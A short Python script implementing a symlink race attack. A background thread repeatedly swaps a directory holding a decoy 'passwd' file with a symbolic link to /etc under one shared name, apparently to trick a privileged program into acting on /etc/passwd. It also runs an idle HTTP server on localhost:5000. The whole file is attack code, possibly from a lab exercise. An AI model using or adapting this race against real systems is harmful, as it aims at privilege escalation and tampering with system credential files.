"""Swap a folder and a symbolic link to /etc under one name, until the run is stopped."""

import os
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer


def swap() -> None:
    os.makedirs("real", exist_ok=True)
    with open("real/passwd", "w") as file:
        file.write("ours")
    os.symlink("/etc", "link")
    os.rename("folder", "away")
    while True:
        os.rename("real", "folder")
        os.rename("folder", "real")
        os.rename("link", "folder")
        os.rename("folder", "link")


threading.Thread(target=swap, daemon=True).start()
HTTPServer(("127.0.0.1", 5000), BaseHTTPRequestHandler).serve_forever()
